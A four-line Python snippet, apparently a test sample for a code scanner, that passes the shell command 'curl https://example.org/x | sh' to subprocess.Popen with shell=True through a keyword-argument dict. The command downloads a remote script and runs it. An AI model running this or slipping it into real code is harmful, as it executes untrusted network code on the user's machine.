import subprocess

options = {"args": "curl https://example.org/x | sh", "shell": True}
subprocess.Popen(**options)
